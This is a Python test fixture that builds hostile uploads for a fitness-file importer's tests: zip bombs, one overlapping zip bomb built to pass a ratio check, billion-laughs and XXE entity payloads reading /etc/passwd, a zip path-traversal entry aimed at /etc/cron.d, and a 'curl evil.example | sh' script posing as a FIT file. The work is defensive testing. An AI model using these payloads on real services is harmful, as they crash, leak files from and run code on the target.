"""Hostile training files, built here: bombs, entity tricks, traversal, a script (issue 12).

Shared by the importer, web-upload and command-line tests, so each path refuses the same
files. ``HOSTILE_FILES`` pairs each with a phrase of the reason a runner is shown.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from tests.data import SHARED_DATA

RUN_FIT = SHARED_DATA / "fit" / "runalyze-Fenix-2-pauses.fit"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n" * 20
_GPX_BODY = (
    '<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>{name}</name>'
    '<trkseg><trkpt lat="59.9" lon="10.7"><time>2024-05-01T06:00:00Z</time></trkpt>'
    '<trkpt lat="59.91" lon="10.7"><time>2024-05-01T06:05:00Z</time></trkpt></trkseg></trk>'
    "</gpx>"
)
_TCX_BODY = (
    '<TrainingCenterDatabase xmlns="http://www.garmin.com/xmlschemas/'
    'TrainingCenterDatabase/v2"><Activities><Activity Sport="Running"><Id>{name}</Id>'
    '<Lap StartTime="2024-05-01T06:00:00Z"><Track><Trackpoint><Time>2024-05-01T06:00:00Z'
    "</Time></Trackpoint></Track></Lap></Activity></Activities></TrainingCenterDatabase>"
)


def zipped(entries: dict[str, bytes]) -> bytes:
    """A deflated zip of ``entries`` (name to bytes)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def gpx(name: str = "Easy run", *, doctype: str = "", prefix: str = "") -> bytes:
    """A small valid GPX run; ``doctype`` and ``prefix`` go before its root element."""
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return (head + prefix + doctype + _GPX_BODY.format(name=name)).encode()


def tcx(name: str = "2024-05-01T06:00:00Z", *, doctype: str = "", prefix: str = "") -> bytes:
    """A small TCX run; ``doctype`` and ``prefix`` go before its root element."""
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return (head + prefix + doctype + _TCX_BODY.format(name=name)).encode()


def laughs(levels: int = 9) -> str:
    """The "billion laughs" document type: each entity ten of the one before."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels + 1)
    ]
    return f"<!DOCTYPE gpx [{''.join(entities)}]>"


XXE = '<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def overlapping_zip_bomb(entries: int = 10, expanded_bytes: int = 8 << 20) -> bytes:
    """A zip whose entries all name one compressed kernel (after D. Fifield, 2019).

    Each entry claims the whole archive as its compressed size, so each one's expansion
    ratio looks honest (under 100); together they expand ``entries`` times as much.
    """
    fit = bytearray(expanded_bytes)
    fit[:12] = b"\x0e\x10\x00\x00\x00\x00\x00\x00.FIT"  # a FIT header: kept, not sniffed out
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(fit)) + packer.flush()
    name, crc = b"run.fit", zlib.crc32(fit)
    claimed = max(len(kernel), expanded_bytes // 90)  # a ratio of 90: under the limit of 100
    padding = bytes(claimed - len(kernel))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, claimed, len(fit), 7, 0)
    body = local + name + kernel + padding
    central = b"".join(
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            claimed,
            len(fit),
            7,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
        for _ in range(entries)
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central), len(body), 0)
    return body + central + end


@dataclass(frozen=True)
class HostileFile:
    """A file an attacker uploads, and a phrase of the reason it is refused with."""

    id: str
    name: str
    data: bytes
    reason: str


def hostile_files() -> list[HostileFile]:
    """Every hostile training file the issue names, each refused with a clear reason."""
    return [
        HostileFile(
            "zip-bomb", "bomb.zip", zipped({"activities/huge.fit": bytes(8 << 20)}), "zip bomb"
        ),
        HostileFile("overlapping-zip-bomb", "overlap.zip", overlapping_zip_bomb(), "zip bomb"),
        HostileFile("entity-bomb", "laughs.gpx", gpx("&lol9;", doctype=laughs()), "entities"),
        HostileFile(
            "hidden-entity-bomb",
            "hidden.gpx",
            gpx("&lol9;", doctype=laughs(), prefix="<!-- <gpx> -->"),
            "entities",
        ),
        HostileFile("xxe-gpx", "xxe.gpx", gpx("&xxe;", doctype=XXE), "entities"),
        HostileFile(
            "xxe-tcx", "xxe.tcx", tcx("&xxe;", doctype=XXE.replace("gpx", "tcx")), "entities"
        ),
        HostileFile(
            "path-traversal",
            "evil.zip",
            zipped({"../../etc/cron.d/run.fit": RUN_FIT.read_bytes()}),
            "outside the archive",
        ),
        HostileFile("script", "run.fit", SCRIPT, "not a FIT, GPX or TCX"),
    ]
